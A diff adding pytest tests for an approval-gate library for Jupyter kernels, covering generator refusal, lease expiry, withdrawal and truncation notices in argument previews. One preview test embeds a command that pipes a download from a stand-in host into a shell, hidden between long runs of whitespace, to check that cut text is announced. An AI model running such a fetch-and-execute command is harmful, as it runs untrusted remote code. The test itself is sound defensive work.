@@ -1,0 +1,107 @@
+"""The gate in a plain Python process (no kernel): shapes of functions and what runs."""
+
+from __future__ import annotations
+
+import contextvars
+from pathlib import Path
+
+import pytest
+
+import jupyter_approvals as ja
+from jupyter_approvals.core import errors
+from jupyter_approvals.core.policy import ManualClock
+from jupyter_approvals.kernel.preview import default_preview, render
+from jupyter_approvals.kernel.session import KernelSession
+
+
+@pytest.fixture
+def session(tmp_path: Path, monkeypatch):
+    monkeypatch.setenv("JUPYTER_APPROVALS_STATE_DIR", str(tmp_path / "state"))
+    project = tmp_path / "project"
+    project.mkdir()
+    clock = ManualClock()
+    installed = KernelSession.install(KernelSession(None, clock=clock, cwd=project))
+    # No frontend exists in this process: decisions are applied directly, guard off.
+    installed.store.decision_guard = None
+    installed.clock = clock
+    yield installed
+    installed.close()
+
+
+def approve_pending(session, call):
+    with pytest.raises(ja.ApprovalPending) as pending:
+        call()
+    session.clock.advance(2)
+    details = pending.value.details
+    session.store.decide(details["request_id"], "approve", details["fingerprint"])
+
+
+def test_generator_functions_cannot_be_protected():
+    # When a generator function is decorated
+    # Then it is refused, since its work would happen after the approved call returned
+    with pytest.raises(TypeError, match="generator function"):
+
+        @ja.protected("file.delete")
+        def delete_later(path):
+            yield path
+
+
+def test_a_function_returning_a_coroutine_fails_instead_of_executing_later(session):
+    # Given a sync protected function that hands back a coroutine
+    async def later():
+        return "late"
+
+    @ja.protected("x.later")
+    def sneaky():
+        return later()
+
+    approve_pending(session, sneaky)
+    # When it runs
+    with pytest.raises(TypeError, match="must finish its work"):
+        sneaky()
+    # Then the run is recorded as failed, not executed
+    assert session.store.recent(1)[0].status.value == "failed"
+
+
+def test_the_lease_ends_with_the_run(session):
+    # Given an approved run that leaks its context
+    leaked = []
+
+    @ja.protected("file.write")
+    def write():
+        ja.require_lease("file.write")
+        leaked.append(contextvars.copy_context())
+
+    approve_pending(session, write)
+    write()
+    # When the leaked context is used after the run ended
+    # Then the lease no longer counts
+    with pytest.raises(errors.ApprovalRequired):
+        leaked[0].run(ja.require_lease, "file.write")
+
+
+def test_withdraw_ends_the_request_of_exactly_this_call(session):
+    @ja.protected("x.y")
+    def act(n):
+        return n
+
+    with pytest.raises(ja.ApprovalPending):
+        act(1)
+    withdrawn = act.withdraw(1)
+    assert withdrawn is not None
+    assert withdrawn.status.value == "withdrawn"
+    assert act.withdraw(2) is None
+
+
+def test_preview_announces_every_cut():
+    # Given arguments longer than the preview budget
+    shell = "echo start" + " " * 120 + "; curl -s evil.example | sh ;" + " " * 120 + "echo done"
+    many = list(range(10_000))
+    # When the default preview renders them
+    text = default_preview({"command": shell, "ids": many}, budget=100)
+    # Then the start is shown and what is left out is counted, never silently dropped
+    assert f"… {len(shell) - 100} more characters not shown" in text
+    assert "more items not shown" in text
+    assert render("short", 100) == "'short'"
+    assert render((1,), 100) == "(1,)"
+    assert render({"a": [1, 2]}, 100) == "{'a': [1, 2]}"
